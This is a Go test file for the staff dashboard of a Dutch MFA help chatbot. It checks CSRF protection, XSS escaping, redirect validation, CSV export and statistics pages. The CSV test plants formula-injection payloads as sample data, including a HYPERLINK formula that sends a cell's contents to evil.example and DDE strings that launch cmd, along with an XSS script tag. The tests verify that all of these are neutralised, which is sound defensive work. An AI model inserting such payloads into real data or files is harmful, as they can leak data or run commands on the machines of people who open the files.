package staff

import (
	"context"
	"encoding/csv"
	"html"
	"net/http"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"mfabot/dialogs"
	"mfabot/dialogs/texts"
	"mfabot/handoff"
	"mfabot/store"
)

func TestCSRFEnforced(t *testing.T) {
	e := newDevEnv(t, nil)
	id := addEscalation(t, e.st, store.Escalation{StudentName: "Sanne de Vries"})
	c := e.devSignIn(t, "Ine")
	base := e.srv.URL + "/staff/escalations/" + strconv.FormatInt(id, 10)
	_, page := get(t, c, base)
	token := csrfFrom(t, page)

	other := e.devSignIn(t, "Joris") // another staff member's token
	_, otherPage := get(t, other, e.srv.URL+"/staff/")
	otherToken := csrfFrom(t, otherPage)
	if otherToken == token {
		t.Fatal("two sessions share a CSRF token")
	}

	for _, tc := range []struct {
		name   string
		path   string
		form   url.Values
		header http.Header
	}{
		{"claim without token", "/claim", url.Values{}, nil},
		{"claim with wrong token", "/claim", url.Values{"csrf": {token + "x"}}, nil},
		{"claim with another session's token", "/claim", url.Values{"csrf": {otherToken}}, nil},
		{"resolve without token", "/resolve", url.Values{"note": {"klaar"}}, nil},
		{"resolve with wrong token", "/resolve", url.Values{"note": {"klaar"}, "csrf": {"AAAA"}}, nil},
		{"claim cross-origin with the right token", "/claim", url.Values{"csrf": {token}},
			http.Header{"Origin": {"https://evil.example"}, "Sec-Fetch-Site": {"cross-site"}}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			res, body := postForm(t, c, base+tc.path, tc.form, tc.header)
			if res.StatusCode != http.StatusForbidden {
				t.Errorf("status %d, want 403", res.StatusCode)
			}
			if !strings.Contains(body, "Verzoek geweigerd") {
				t.Errorf("no refusal page:\n%s", body)
			}
			if got := mustEscalation(t, e.st, id); got.Status != store.StatusOpen || got.ClaimedBy != "" {
				t.Errorf("escalation changed: status %s, claimed by %q", got.Status, got.ClaimedBy)
			}
		})
	}
	for _, a := range auditActions(t, e.st, id) {
		if strings.HasPrefix(a, "claim:") || strings.HasPrefix(a, "resolve:") {
			t.Errorf("refused POST left audit entry %s", a)
		}
	}
	res, _ := postForm(t, c, e.srv.URL+"/staff/logout", url.Values{}, nil)
	if res.StatusCode != http.StatusForbidden || !hasCookie(c, e.srv.URL+"/staff/", sessionCookie) {
		t.Errorf("logout without token: status %d, want 403 and still signed in", res.StatusCode)
	}

	// With the right token the same request works.
	res, _ = postForm(t, c, base+"/claim", url.Values{"csrf": {token}}, http.Header{"Origin": {e.srv.URL}, "Sec-Fetch-Site": {"same-origin"}})
	if res.StatusCode != http.StatusSeeOther {
		t.Fatalf("claim with token: status %d, want 303", res.StatusCode)
	}
	if got := mustEscalation(t, e.st, id); got.Status != store.StatusClaimed || got.ClaimedBy != "Ine" {
		t.Errorf("after claim: status %s, claimed by %q", got.Status, got.ClaimedBy)
	}
}

func TestQueueDetailAndActions(t *testing.T) {
	e := newDevEnv(t, []string{"step01", "step02"})
	older := addEscalation(t, e.st, store.Escalation{StudentName: "Bram Jansen", Situation: "move_phone", FailedStep: "step02",
		Reason: handoff.ReasonTwoFailures, CreatedAt: time.Now().Add(-2 * time.Hour), RepeatContact: true})
	sec := addEscalation(t, e.st, store.Escalation{StudentName: "Sanne de Vries", StudentUPN: "sanne@student.example",
		StudentObjectID: "oid-sanne", Situation: "suspicious_prompt", Reason: handoff.ReasonSuspicious, Security: true,
		Methods:    []string{"Microsoft Authenticator (iPhone 12)", "Mobiel +31 6 ** ** ** 78"},
		Transcript: []store.TranscriptLine{{Role: "student", Text: "ik krijg meldingen die ik niet zelf start <script>alert(1)</script>", At: time.Now()}}})
	done := addEscalation(t, e.st, store.Escalation{StudentName: "Opgeloste Olaf", Status: store.StatusResolved})
	c := e.devSignIn(t, "Ine")

	_, body := get(t, c, e.srv.URL+"/staff/")
	iSec, iOld := strings.Index(body, "Sanne de Vries"), strings.Index(body, "Bram Jansen")
	if iSec < 0 || iOld < 0 || iSec > iOld {
		t.Errorf("queue: security escalation not listed first (sanne at %d, bram at %d)", iSec, iOld)
	}
	if strings.Contains(body, "Opgeloste Olaf") {
		t.Error("the default queue lists a resolved escalation")
	}
	for _, want := range []string{`<span class="badge security">Beveiliging</span>`, "Herhaald contact", "Stap 2: Log in",
		"Stap twee keer mislukt", "2 u 00 min", `data-poll="/staff/queue/fragment?status=active"`} {
		if !strings.Contains(body, want) {
			t.Errorf("queue lacks %q", want)
		}
	}
	_, body = get(t, c, e.srv.URL+"/staff/?status=resolved")
	if !strings.Contains(body, "Opgeloste Olaf") || strings.Contains(body, "Bram Jansen") {
		t.Error("resolved filter wrong")
	}
	_, body = get(t, c, e.srv.URL+"/staff/queue/fragment?status=active&security=1")
	if !strings.Contains(body, "Sanne de Vries") || strings.Contains(body, "Bram Jansen") || strings.Contains(body, "<html") {
		t.Errorf("security fragment wrong:\n%s", body)
	}

	detail := e.srv.URL + "/staff/escalations/" + strconv.FormatInt(sec, 10)
	res, body := get(t, c, detail)
	if res.StatusCode != http.StatusOK {
		t.Fatalf("detail: status %d", res.StatusCode)
	}
	for _, want := range []string{"sanne@student.example", "oid-sanne", "Verdachte aanmeldverzoeken", "Mobiel &#43;31 6 ** ** ** 78",
		"&lt;script&gt;alert(1)&lt;/script&gt;", "Ik pak dit op", "Opgelost"} {
		if !strings.Contains(body, want) {
			t.Errorf("detail lacks %q", want)
		}
	}
	if strings.Contains(body, "<script>alert(1)") {
		t.Error("transcript text is not escaped")
	}
	if csp := res.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "script-src 'self'") {
		t.Errorf("CSP = %q", csp)
	}
	if got := auditActions(t, e.st, sec); !containsStr(got, "view:Ine") {
		t.Errorf("audit = %v, want the view", got)
	}
	token := csrfFrom(t, body)

	// Resolve without a note is refused and changes nothing.
	res, _ = postForm(t, c, detail+"/resolve", url.Values{"csrf": {token}, "note": {"  "}}, nil)
	if loc := res.Header.Get("Location"); !strings.HasSuffix(loc, "?m=note") {
		t.Errorf("resolve without note: Location %q", loc)
	}
	if got := mustEscalation(t, e.st, sec); got.Status != store.StatusOpen {
		t.Errorf("status after empty note = %s", got.Status)
	}
	postForm(t, c, detail+"/claim", url.Values{"csrf": {token}}, nil)
	// A second claim is an invalid transition: a clear message, no change.
	res, _ = postForm(t, c, detail+"/claim", url.Values{"csrf": {token}}, nil)
	if loc := res.Header.Get("Location"); !strings.HasSuffix(loc, "?m=state") {
		t.Errorf("second claim: Location %q", loc)
	}
	_, body = get(t, c, detail+"?m=state")
	if !strings.Contains(body, "past niet (meer) bij de status") {
		t.Error("no message for an invalid transition")
	}
	postForm(t, c, detail+"/resolve", url.Values{"csrf": {token}, "note": {"Wachtwoord gewijzigd, sessies ingetrokken."}}, nil)
	got := mustEscalation(t, e.st, sec)
	if got.Status != store.StatusResolved || got.ResolvedBy != "Ine" || got.ResolutionNote != "Wachtwoord gewijzigd, sessies ingetrokken." {
		t.Errorf("after resolve: %+v", got)
	}
	_, body = get(t, c, detail)
	if !strings.Contains(body, "Heropenen") || !strings.Contains(body, "Wachtwoord gewijzigd, sessies ingetrokken.") {
		t.Error("resolved detail lacks the reopen form or the note")
	}
	postForm(t, c, detail+"/reopen", url.Values{"csrf": {token}}, nil)
	if got := mustEscalation(t, e.st, sec); got.Status != store.StatusOpen {
		t.Errorf("after reopen: status %s", got.Status)
	}
	// Claim from the queue returns to the queue.
	res, _ = postForm(t, c, e.srv.URL+"/staff/escalations/"+strconv.FormatInt(older, 10)+"/claim", url.Values{"csrf": {token}, "back": {"queue"}}, nil)
	if res.Header.Get("Location") != "/staff/" {
		t.Errorf("claim from queue: Location %q", res.Header.Get("Location"))
	}
	if res, _ := get(t, c, e.srv.URL+"/staff/escalations/999999"); res.StatusCode != http.StatusNotFound {
		t.Errorf("unknown escalation: status %d", res.StatusCode)
	}
	_ = done
}

func TestCSVExportNeutralisesFormulas(t *testing.T) {
	e := newDevEnv(t, nil)
	id := addEscalation(t, e.st, store.Escalation{
		StudentName:     `=HYPERLINK("http://evil.example/?"&A1,"klik")`,
		StudentUPN:      "+31612345678@student.example",
		StudentObjectID: "@SUM(1+1)*cmd|' /C calc'!A0",
		Situation:       "lost_phone",
		FailedStep:      "-2+3",
		Reason:          "\t=1+1",
		Methods:         []string{"Mobiel, \"privé\"", "Authenticator\nmet nieuwe regel"},
		Status:          store.StatusResolved,
	})
	// The resolution note is set the way staff set it.
	esc := mustEscalation(t, e.st, id)
	esc.ResolutionNote = "=cmd|' /C notepad'!A1"
	if _, err := e.st.UpdateEscalation(context.Background(), esc); err != nil {
		t.Fatal(err)
	}
	addEscalation(t, e.st, store.Escalation{StudentName: "Gewone Naam", Reason: handoff.ReasonAskedForHuman})

	c := e.devSignIn(t, "Ine")
	res, body := get(t, c, e.srv.URL+"/staff/export.csv?status=all")
	if res.StatusCode != http.StatusOK {
		t.Fatalf("export: status %d", res.StatusCode)
	}
	if ct := res.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type %q", ct)
	}
	if cd := res.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, `attachment; filename="mfabot-escalaties-`) {
		t.Errorf("Content-Disposition %q", cd)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatalf("export is not valid CSV: %v\n%s", err, body)
	}
	if len(rows) != 3 {
		t.Fatalf("got %d rows, want header + 2", len(rows))
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	var row []string
	for _, r := range rows[1:] {
		if r[col["id"]] == strconv.FormatInt(id, 10) {
			row = r
		}
	}
	if row == nil {
		t.Fatal("exported escalation not found")
	}
	for field, want := range map[string]string{
		"student_naam":       `'=HYPERLINK("http://evil.example/?"&A1,"klik")`,
		"student_upn":        "'+31612345678@student.example",
		"student_object_id":  "'@SUM(1+1)*cmd|' /C calc'!A0",
		"mislukte_stap":      "'-2+3",
		"reden":              "'\t=1+1",
		"methoden":           "Mobiel, \"privé\"; Authenticator\nmet nieuwe regel",
		"notitie":            "'=cmd|' /C notepad'!A1",
		"situatie":           "lost_phone",
		"situatie_naam":      "Telefoon kwijt of kapot",
		"mislukte_stap_naam": "'-2+3",
		"reden_naam":         "'\t=1+1",
		"status":             "resolved",
		"status_naam":        "Opgelost",
	} {
		if got := row[col[field]]; got != want {
			t.Errorf("%s = %q, want %q", field, got, want)
		}
	}
	for _, r := range rows[1:] {
		for i, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Errorf("column %s starts with a formula character: %q", rows[0][i], cell)
			}
		}
	}
	found := false
	list, _ := e.st.Audit(context.Background(), 0)
	for _, a := range list {
		if a.Action == "export" && a.Actor == "Ine" && strings.Contains(a.Detail, "2 rows") {
			found = true
		}
	}
	if !found {
		t.Errorf("no audit entry for the export: %+v", list)
	}
}

func TestSafeNext(t *testing.T) {
	for in, want := range map[string]string{
		"/staff/stats": "/staff/stats", "/staff/escalations/3?m=x": "/staff/escalations/3?m=x",
		"": "/staff/", "https://evil.example/staff/": "/staff/", "//evil.example/staff/": "/staff/",
		"/staff/../admin": "/staff/", "/staff/\\evil": "/staff/", "/staff/login?next=x": "/staff/",
		"/staff/auth/callback?code=x": "/staff/", "/other": "/staff/",
	} {
		if got := safeNext(in); got != want {
			t.Errorf("safeNext(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestDetailVersionEndpoint(t *testing.T) {
	e := newDevEnv(t, nil)
	id := addEscalation(t, e.st, store.Escalation{StudentName: "Sanne de Vries"})
	c := e.devSignIn(t, "Ine")
	u := e.srv.URL + "/staff/escalations/" + strconv.FormatInt(id, 10) + "/version"
	_, before := get(t, c, u)
	if _, err := (fakeActions{st: e.st, now: time.Now}).Claim(context.Background(), id, "Joris"); err != nil {
		t.Fatal(err)
	}
	res, after := get(t, c, u)
	if res.Header.Get("Content-Type") != "application/json" || before == after || !strings.Contains(after, `"status":"claimed"`) {
		t.Errorf("version endpoint: before %s after %s", before, after)
	}
	if strings.Contains(after, "Sanne") {
		t.Error("version endpoint returns student data")
	}
}

func TestNeutralise(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "=1": "'=1", "+1": "'+1", "-1": "'-1", "@x": "'@x", "\tx": "'\tx", "\rx": "'\rx",
		"a=1": "a=1", "Jan": "Jan", "'=": "'=",
	} {
		if got := neutralise(in); got != want {
			t.Errorf("neutralise(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestStatisticsPage(t *testing.T) {
	// "situation" is a step the flow does not know (it stays visible as it is).
	steps := []string{"situation", "step01", "step02", "step10"}
	e := newDevEnv(t, steps)
	ctx := context.Background()
	now := time.Now().UTC()
	record := func(session, step, event string) {
		if err := e.st.RecordStepEvent(ctx, store.StepEvent{ConversationID: "conv-" + session, UserID: "u-" + session, Step: step, Event: event, At: now.Add(-time.Hour)}); err != nil {
			t.Fatal(err)
		}
	}
	for i, outcome := range []string{store.OutcomeVerifiedResolved, store.OutcomeVerifiedResolved, store.OutcomeEscalated} {
		sid := "s" + strconv.Itoa(i)
		if err := e.st.StartSession(ctx, store.Session{ID: sid, ConversationID: "conv-" + sid, UserID: "u-" + sid, StartedAt: now.Add(-2 * time.Hour), LastActivityAt: now.Add(-2 * time.Hour)}); err != nil {
			t.Fatal(err)
		}
		// step10 is recorded first to check that the page orders by flow.
		record(sid, "step10", "shown")
		record(sid, "step01", "shown")
		record(sid, "step02", "shown")
		if err := e.st.EndSession(ctx, sid, outcome, now.Add(-30*time.Minute)); err != nil {
			t.Fatal(err)
		}
		if err := e.st.SetSatisfaction(ctx, sid, 5-i); err != nil {
			t.Fatal(err)
		}
	}
	record("s2", "step02", "failed")
	record("s9", "old_step", "shown")

	c := e.devSignIn(t, "Ine")
	res, body := get(t, c, e.srv.URL+"/staff/stats")
	if res.StatusCode != http.StatusOK {
		t.Fatalf("stats: status %d", res.StatusCode)
	}
	// The table is in flow order (the drop-off chart above it is not).
	table := body[strings.Index(body, `<table class="funnel">`):]
	i1, i2, i10, iOld := strings.Index(table, "Stap 1: Open de website"), strings.Index(table, "Stap 2: Log in"), strings.Index(table, "Stap 10: Rond het toevoegen af"), strings.Index(table, "old_step")
	if i1 < 0 || i2 < 0 || i10 < 0 || iOld < 0 || !(i1 < i2 && i2 < i10 && i10 < iOld) {
		t.Errorf("funnel not in flow order: %d %d %d %d", i1, i2, i10, iOld)
	}
	for _, want := range []string{
		`<th scope="row">Stap 2: Log in</th><td class="num">3</td><td class="num">1</td><td class="num">33%</td>`,
		`<th scope="row">situation</th><td class="num">0</td>`,
		`width="100"`, "Opgelost (gecontroleerd)", "Afgebroken", now.Add(-30 * time.Minute).Format("2006-01-02"),
		`<th scope="row">5 van 5</th><td class="num">1</td>`, "4.0 / 5",
	} {
		if !strings.Contains(body, want) {
			t.Errorf("stats page lacks %q", want)
		}
	}
}

// The funnel of the real flow names every step as staff name it (the
// staff card's names): the table, the drop-off chart and the CSV, whose
// last column keeps the id.
func TestFunnelShowsStepNamesNotIDs(t *testing.T) {
	steps := dialogs.StepOrder()
	e := newDevEnv(t, steps)
	ctx := context.Background()
	at := time.Now().UTC().Add(-time.Hour)
	for i, step := range steps {
		conv := "conv-" + strconv.Itoa(i)
		for _, ev := range []string{"shown", "failed"} {
			if err := e.st.RecordStepEvent(ctx, store.StepEvent{ConversationID: conv, UserID: "u-" + conv, Step: step, Event: ev, At: at}); err != nil {
				t.Fatal(err)
			}
		}
	}
	c := e.devSignIn(t, "Ine")
	_, body := get(t, c, e.srv.URL+"/staff/stats")
	table := body[strings.Index(body, `<table class="funnel">`):]
	table = table[:strings.Index(table, "</table>")]
	rows := regexp.MustCompile(`<th scope="row">([^<]*)</th>`).FindAllStringSubmatch(table, -1)
	if len(rows) != len(steps) {
		t.Fatalf("funnel has %d rows, want %d (one per step)", len(rows), len(steps))
	}
	for i, id := range steps {
		want := html.EscapeString(texts.Step("nl", id))
		if got := rows[i][1]; got != want || got == id {
			t.Errorf("funnel row %d = %q, want %q (step %s)", i, got, want, id)
		}
	}
	for _, want := range []string{">Stap 7: Voeg je schoolaccount toe<", ">Nieuwe telefoon niet gevonden bij de controle<",
		">Controle: oude telefoon verwijderd<", ">Doorgezet naar de servicedesk<", ">Gestopt<", ">Begin: situatie kiezen<"} {
		if !strings.Contains(body, want) {
			t.Errorf("stats page lacks %q", want)
		}
	}
	// No id is shown as text anywhere on the page (the chart included).
	for _, id := range steps {
		if strings.Contains(body, ">"+id+"<") || strings.Contains(body, "Meeste uitval: "+id+" ") {
			t.Errorf("stats page shows the id %q", id)
		}
	}

	_, csvBody := get(t, c, e.srv.URL+"/staff/stats.csv?days=7")
	recs, err := csv.NewReader(strings.NewReader(csvBody[strings.Index(csvBody, "stap,"):])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != len(steps)+1 || strings.Join(recs[0], ",") != "stap,bereikt,mislukt,uitval_procent,stap_id" {
		t.Fatalf("csv funnel %v", recs)
	}
	for i, id := range steps {
		if rec := recs[i+1]; rec[0] != texts.Step("nl", id) || rec[4] != id {
			t.Errorf("csv row %v, want the name %q and the id %q", rec, texts.Step("nl", id), id)
		}
	}
}

// A click in the transcript and the audit log's record of the hand-off
// are shown with the names staff read, not by the ids they record.
func TestTranscriptAndAuditShowNames(t *testing.T) {
	e := newDevEnv(t, nil)
	id := addEscalation(t, e.st, store.Escalation{StudentName: "Bram Jansen", Situation: "move_phone", FailedStep: "step09",
		Transcript: []store.TranscriptLine{
			{Role: "student", Text: "[move_phone @ welcome]", At: time.Now()},
			{Role: "student", Text: "[failed @ step09]", At: time.Now()},
			{Role: "student", Text: "[rate @ done]", At: time.Now()},
			{Role: "student", Text: "[failed @ step09] en toen?", At: time.Now()},
		}})
	for _, a := range []store.AuditEntry{
		{At: time.Now(), Actor: "mfabot", Action: "create", EscalationID: id, Detail: "reason=two_failures security=false repeat=true"},
		{At: time.Now(), Actor: "mfabot", Action: "security", EscalationID: id, Detail: "marked as security: suspicious_prompt"},
	} {
		if err := e.st.AppendAudit(context.Background(), a); err != nil {
			t.Fatal(err)
		}
	}
	c := e.devSignIn(t, "Ine")
	_, body := get(t, c, e.srv.URL+"/staff/escalations/"+strconv.FormatInt(id, 10))
	for _, want := range []string{
		"<td>reden: Stap twee keer mislukt; beveiliging: nee; herhaald contact: ja</td>",
		"<td>als beveiliging gemarkeerd: Verdachte aanmeldverzoeken</td>",
		"<p>Knop &#39;Overzetten naar een andere telefoon&#39; bij Begin: situatie kiezen</p>",
		"<p>Knop &#39;Lukt niet&#39; bij Stap 9: Typ het nummer over</p>",
		"<p>Knop &#39;Cijfer&#39; bij Klaar</p>",
		"<p>[failed @ step09] en toen?</p>", // what the student typed stays as typed
		"<dd>Stap 9: Typ het nummer over</dd>",
	} {
		if !strings.Contains(body, want) {
			t.Errorf("detail page lacks %q", want)
		}
	}
	if strings.Contains(body, "<p>[failed @ step09]</p>") {
		t.Error("the detail page shows a click by its ids")
	}
}
